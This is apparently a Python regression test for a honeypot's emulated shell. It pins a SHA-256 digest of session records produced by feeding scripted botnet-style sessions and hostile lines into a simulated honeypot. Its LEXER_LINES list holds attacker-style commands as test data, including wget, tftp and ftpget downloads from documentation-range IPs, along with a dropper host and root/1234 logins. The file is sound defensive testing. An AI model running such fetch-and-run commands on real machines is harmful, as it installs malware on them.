"""Golden live-session transcripts: the shell's recorded bytes are pinned.

One live session per :class:`ScriptKind` template, one per hostile line
of ``test_shell_crashers.py`` and one per quoting/escape line of the
hostile grammar run through a real :class:`Honeypot`.  The sha256 of their
:class:`SessionSummary` records (every field but the process-global
session id) was taken before the shell's tokenisers became one compiled
lexer and the session filesystem became a copy of one pristine layout;
both changes must leave every recorded command, URI and hash as it was.
"""

import hashlib
import json

from repro.agents.scripts import ScriptKind, build_script
from repro.honeypot.honeypot import Honeypot, HoneypotConfig
from repro.honeypot.shell.resolver import StaticPayloadResolver
from repro.net.tcp import SSH_PORT, TELNET_PORT

from tests.test_shell_crashers import FETCH_ONTO_DIR, REDIRECT_LINES, RM_ROOT_LINES

#: Lines whose splitting and tokenising exercise quotes, escapes and
#: separators (the quoting productions of the live-farm hostile grammar
#: and a few more); none of them raised before the lexer change.
LEXER_LINES = [
    "echo 'unterminated",
    'echo "unterminated $(uname',
    "echo \"a'b\"'c\"d'",
    "echo \\",
    "echo '\\''",
    'echo "$"',
    "echo ''''''''",
    "echo \"\\\"\\\"\\\"\"",
    "echo a\\ b > '/tmp/x y'; cat /tmp/x\\ y",
    "echo \"a > b\" >> /tmp/q && cat /tmp/q || echo no",
    "wget 'http://198.51.100.7/a b.sh' & echo bg &",
    "tftp -g -r \"mi ps\" 198.51.100.9; ftpget -u 'a b' 198.51.100.9 x 'y z'",
    "echo `uname -a; id` | grep x;; ;",
    "echo a\x00b\x0bc\xa0d \t e",
    "cd /tmp && echo \"$(echo nested)\" > n\\>m",
]


def _summary_record(summary):
    return {
        "honeypot_id": summary.honeypot_id,
        "protocol": summary.protocol.value,
        "client_ip": summary.client_ip,
        "client_port": summary.client_port,
        "honeypot_ip": summary.honeypot_ip,
        "start_time": summary.start_time,
        "end_time": summary.end_time,
        "close_reason": summary.close_reason.value,
        "client_version": summary.client_version,
        "credentials": summary.credentials,
        "login_success": summary.login_success,
        "commands": summary.commands,
        "known_commands": summary.known_commands,
        "uris": summary.uris,
        "file_hashes": summary.file_hashes,
    }


def _run(hp, resolver, index, lines, dst):
    session = hp.accept(0x0A000000 + index, 40000 + index, dst,
                        now=10.0 * index, resolver=resolver)
    now = 10.0 * index + 1.0
    assert session.try_login("root", "1234", now).success
    for line in lines:
        if session.is_closed:
            break
        now += 1.5
        session.input_line(line, now)
    session.client_disconnect(now + 1.0)
    return _summary_record(session.summary())


def transcript():
    hp = Honeypot(HoneypotConfig("hp-golden", 1, "US", 1))
    resolver = StaticPayloadResolver()
    scripts = []
    for kind in ScriptKind:
        template = build_script(kind, token="golden",
                                dropper_host="198.51.100.7")
        if template.payload is not None:
            resolver.register(template.dropper_uri, template.payload)
        scripts.append(list(template.lines))
    hostile = [[line] for line in
               REDIRECT_LINES + RM_ROOT_LINES + sorted(FETCH_ONTO_DIR)]
    lexer = [[line] for line in LEXER_LINES]
    records = []
    for index, lines in enumerate(scripts + hostile + lexer):
        dst = SSH_PORT if index % 2 == 0 else TELNET_PORT
        records.append(_run(hp, resolver, index, lines, dst))
    return records


def digest(records):
    payload = json.dumps(records, sort_keys=True, separators=(",", ":"))
    return hashlib.sha256(payload.encode("utf-8", "surrogateescape")).hexdigest()


#: sha256 of :func:`transcript` (and its session count), pinned before the
#: lexer and copy-on-write filesystem change.
GOLDEN_SESSIONS = 67
GOLDEN_SHA256 = "62b5096c0e08422c790bbdab024de326739b150c8b48182cb3165ad25f81351b"


def test_transcript_matches_pinned_digest():
    records = transcript()
    assert len(records) == GOLDEN_SESSIONS
    assert digest(records) == GOLDEN_SHA256


def test_transcript_records_every_template():
    records = transcript()
    scripted = records[:len(ScriptKind)]
    assert all(r["commands"] for r in scripted)
    assert any(r["uris"] for r in scripted)
    assert any(r["file_hashes"] for r in scripted)
